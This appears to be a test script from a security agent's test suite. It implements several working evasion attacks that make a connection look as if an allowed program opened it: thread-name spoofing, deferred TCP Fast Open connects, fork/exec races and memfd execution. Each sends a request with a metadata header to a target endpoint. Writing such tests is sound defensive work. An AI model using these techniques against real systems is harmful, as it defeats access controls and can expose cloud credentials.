# SPDX-License-Identifier: MIT
"""Exec-after-connect attacks on the agent's executable identity (issue 12).

Usage: exec_attacks.py VARIANT HOST PORT PATH ALLOWED_EXE [ALLOWED_ARGS...]

Every variant sets the connecting thread's name to the basename of ALLOWED_EXE (comm spoofing),
connects to HOST:PORT, and arranges for the request to be written once the process that
connected runs ALLOWED_EXE, so that /proc shows the allowed program when the agent looks.
Prints one line: RESULT <variant> <http status|none> <pid that called connect> <deferred: 1, 0
or ->.
Every wait is bounded; the program never hangs and always exits 0.
"""
import ctypes
import os
import socket
import sys
import threading
import time

PR_SET_NAME = 15
TCP_FASTOPEN_CONNECT = 30
TCP_FASTOPEN_NO_COOKIE = 34

variant, host, port, path, allowed = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
allowed_argv = [allowed] + sys.argv[6:]
request = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nMetadata: true\r\nConnection: close\r\n\r\n".encode()
libc = ctypes.CDLL(None, use_errno=True)


def set_comm():
    libc.prctl(PR_SET_NAME, os.path.basename(allowed).encode()[:15], 0, 0, 0)


# Whether the kernel really deferred the SYN of a TCP_FASTOPEN_CONNECT socket (it connects
# at once when active Fast Open is off or backed off): "1", "0", or "-" for other variants.
deferred = "-"


def report(status, pid):
    print(f"RESULT {variant} {status} {pid} {deferred}", flush=True)


def wait_exe(pid, want, timeout=5.0, spin=False):
    """Until /proc/<pid>/exe is `want` (or, for want=None, is no longer python). `spin` polls
    without sleeping, to write within microseconds of the exec."""
    end = time.monotonic() + timeout
    me = os.readlink("/proc/self/exe")
    link = f"/proc/{pid}/exe"
    while time.monotonic() < end:
        try:
            exe = os.readlink(link)
            if (want is None and exe != me) or exe == want:
                return True
        except OSError:
            pass
        if not spin:
            time.sleep(0.005)
    return False


def exchange(sock):
    """Writes the request and returns the status code of the answer, or 'none'."""
    try:
        sock.settimeout(10)
        sock.sendall(request)
        data = b""
        while b"\r\n" not in data and len(data) < 4096:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
        parts = data.split(b"\r\n")[0].split(b" ")
        return parts[1].decode() if len(parts) > 1 else "none"
    except OSError:
        return "none"


def connected(tfo=None):
    """A connected socket. Every variant but `plain` and `setname_only` defers the SYN
    (TCP_FASTOPEN_CONNECT): the strongest form, where the agent sees nothing until the write."""
    if tfo is None:
        tfo = variant not in ("plain", "setname_only")
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if tfo:
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    s.settimeout(5)
    s.connect((host, port))
    if tfo:
        global deferred
        try:
            s.getpeername()
            deferred = "0"
        except OSError:
            deferred = "1"
    return s


def fork_writer_then_exec(sock, exe_path, want):
    """The classic shape: a child keeps the socket and writes once the parent (the process
    that connected) runs `want` (None: anything but python); the parent execs `exe_path`."""
    parent = os.getpid()
    child = os.fork()
    if child == 0:
        wait_exe(parent, want)
        report(exchange(sock), parent)
        os._exit(0)
    os.execv(exe_path, allowed_argv)


def main():
    pid = os.getpid()
    if variant == "setname_only":
        set_comm()
        s = connected()
        report(exchange(s), pid)
    elif variant in ("tfo", "plain"):
        set_comm()
        s = connected()
        fork_writer_then_exec(s, allowed, allowed)
    elif variant == "tfo_prefork":
        # The fastest form: the writer is forked before the connect and spins on
        # /proc/<pid>/exe, so the deferred SYN leaves within a fraction of a millisecond of
        # the exec; no time bound on the SYN can tell it from an ordinary connect.
        set_comm()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
        child = os.fork()
        if child == 0:
            wait_exe(pid, allowed, spin=True)
            report(exchange(s), pid)
            os._exit(0)
        s.connect((host, port))
        os.execv(allowed, allowed_argv)
    elif variant == "thread_exec":
        # The leader connects; a second thread calls execve (the kernel makes it the leader).
        set_comm()
        s = connected()
        child = os.fork()
        if child == 0:
            wait_exe(pid, allowed)
            report(exchange(s), pid)
            os._exit(0)
        t = threading.Thread(target=lambda: os.execv(allowed, allowed_argv))
        t.start()
        t.join(10)
        os._exit(0)
    elif variant == "thread_connect":
        # A second thread (named like the allowed program) connects; the leader execs.
        box = {}

        def connect_in_thread():
            set_comm()
            box["s"] = connected()

        t = threading.Thread(target=connect_in_thread)
        t.start()
        t.join(10)
        s = box.get("s")
        if s is None:
            report("none", pid)
            return
        set_comm()
        fork_writer_then_exec(s, allowed, allowed)
    elif variant == "vfork":
        # posix_spawn (vfork-like): the allowed program is spawned sharing the socket; the
        # connecting process (still python) writes once the child runs the allowed program.
        set_comm()
        s = connected()
        s.set_inheritable(True)
        child = os.posix_spawn(allowed, allowed_argv, os.environ)
        wait_exe(child, allowed)
        report(exchange(s), pid)
        os.waitpid(child, 0)
    elif variant == "memfd":
        # The allowed program's bytes, executed from a memfd after the connect.
        set_comm()
        s = connected()
        fd = os.memfd_create(os.path.basename(allowed), 0)
        with open(allowed, "rb") as src:
            os.write(fd, src.read())
        fork_writer_then_exec(s, f"/proc/self/fd/{fd}", None)
    else:
        print(f"unknown variant {variant}", file=sys.stderr)
        report("none", pid)


try:
    main()
except OSError as e:
    print(f"{variant}: {e}", file=sys.stderr)
    report("none", os.getpid())
